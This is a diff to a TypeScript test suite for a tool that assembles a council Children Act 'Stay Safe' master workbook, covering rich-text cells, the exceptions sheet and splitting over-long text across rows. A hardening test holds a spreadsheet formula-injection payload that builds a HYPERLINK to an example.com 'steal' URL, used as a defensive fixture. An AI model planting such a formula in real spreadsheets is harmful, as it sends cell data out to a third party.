@@ -17,7 +17,12 @@ async function loadWorkbook(model: MasterModel): Promise<ExcelJS.Workbook> {
   return workbook;
 }
 
-const text = (sheet: ExcelJS.Worksheet, address: string) => sheet.getCell(address).value;
+/** A cell's text as a person reads it: rich text (written for any text with a line break) joined. */
+const plain = (value: ExcelJS.CellValue): unknown =>
+  value !== null && typeof value === 'object' && 'richText' in value ? value.richText.map((r) => r.text).join('') : value;
+const text = (sheet: ExcelJS.Worksheet, address: string) => plain(sheet.getCell(address).value);
+const columnTexts = (sheet: ExcelJS.Worksheet, column: number) =>
+  (sheet.getColumn(column).values as ExcelJS.CellValue[]).map(plain).filter((v): v is string => typeof v === 'string');
 const fillOf = (cell: ExcelJS.Cell) => (cell.fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;
 const noteOf = (cell: ExcelJS.Cell) => {
   const note = cell.note as ExcelJS.Comment | string | undefined;
@@ -61,7 +66,8 @@ describe('the master workbook from the March 2008 returns', () => {
     expect(text(sheet, 'A1')).toBe("LEICESTERSHIRE BOROUGH/DISTRICT COUNCILS' CONTRIBUTION TO THE CHILDREN ACT – STAY SAFE");
     expect(text(sheet, 'A2')).toBe('(20 March 2008)');
     expect(sheet.getRow(3).values).toEqual([undefined, 'Outcome', 'Aim', 'LAA Ref', 'Actions', 'District Update']);
-    expect(text(sheet, 'A4')).toBe('Stay safe');
+    // The outcome as the board writes it (boardOutcomeLabels), the aim with the configuration's wording.
+    expect(text(sheet, 'A4')).toBe('Stay Safe');
     expect(text(sheet, 'B4')).toMatch(/^S1 {2}Safe from maltreatment/);
     expect(text(sheet, 'C5')).toBe('SC7\nHC3');
     // The second S2 action sits under the first, Outcome and Aim left blank as in the original.
@@ -128,10 +134,12 @@ describe('the master workbook from the March 2008 returns', () => {
 
   it('lists exceptions, findings and every update on their own sheets', () => {
     const exceptions = workbook.getWorksheet('Exceptions')!;
-    expect(text(exceptions, 'A2')).toBe('At risk');
-    expect(text(exceptions, 'B2')).toBe('HBBC');
-    expect(fillOf(exceptions.getCell('A2'))).toBe(FILL.atRisk);
-    expect(text(exceptions, 'A3')).toBe('Exceptional');
+    expect(exceptions.getRow(3).values).toEqual([undefined, 'Status', 'Outcome', 'Aim', 'LAA Ref', 'Actions', 'District Update']);
+    expect(text(exceptions, 'A4')).toBe('At risk');
+    expect(text(exceptions, 'B4')).toBe('Stay Safe');
+    expect(text(exceptions, 'F4')).toBe('Links to the new YOT Impact Team are being developed (HBBC).');
+    expect(fillOf(exceptions.getCell('A4'))).toBe(FILL.atRisk);
+    expect(text(exceptions, 'A5')).toBe('Exceptional');
     const findings = workbook.getWorksheet('Findings')!;
     expect(findings.getRow(1).values).toEqual([undefined, 'District', 'Sheet', 'Cell', 'Rule', 'Severity', 'Message']);
     expect(findings.getRow(2).values).toEqual([
@@ -209,22 +217,25 @@ describe('hardening the master workbook', () => {
     }
     expect(cells).toBeGreaterThan(50);
     const healthy = workbook.getWorksheet('Be healthy')!;
-    const updates = healthy.getColumn(5).values.filter((v): v is string => typeof v === 'string');
+    const updates = columnTexts(healthy, 5);
     for (const t of hostile) expect(updates).toContain(`${t} (MBC)`);
     expect(text(healthy, 'B4')).toBe('=H1');
     const all = workbook.getWorksheet('All updates')!;
     expect(all.getColumn(6).values).toContain('=HYPERLINK("http://example.com/steal?"&A1,"Click")');
   });
 
-  it('drops characters XML cannot carry and cuts text below the cell limit', () => {
+  it('drops characters XML cannot carry, and continues a text over the cell limit in rows beneath, cutting nothing', () => {
     const healthy = workbook.getWorksheet('Be healthy')!;
     const actions = healthy.getColumn(4).values as unknown[];
     expect(actions).toContain('Control characters');
-    const updates = healthy.getColumn(5).values.filter((v): v is string => typeof v === 'string');
+    const updates = columnTexts(healthy, 5);
     expect(updates).toContain('Bell and  gone (MBC)');
-    const long = updates.find((u) => u.startsWith('xxx'))!;
-    expect(long.length).toBeLessThan(32_767);
-    expect(long).toMatch(/more characters cut/);
+    const pieces = updates.filter((u) => /^(\(continued\) )?xxx/.test(u));
+    expect(pieces.length).toBeGreaterThan(2);
+    expect(pieces.slice(1).every((p) => p.startsWith('(continued) '))).toBe(true);
+    for (const piece of pieces) expect(piece.length).toBeLessThan(32_767);
+    expect(pieces.join('').replace(/\(continued\) | \(MBC\)|\s/g, '')).toBe('x'.repeat(40_000));
+    expect(updates.some((u) => /more characters cut/.test(u))).toBe(false);
   });
 
   it('marks a ref outside the catalogue in its own colour with the nearest entry', () => {
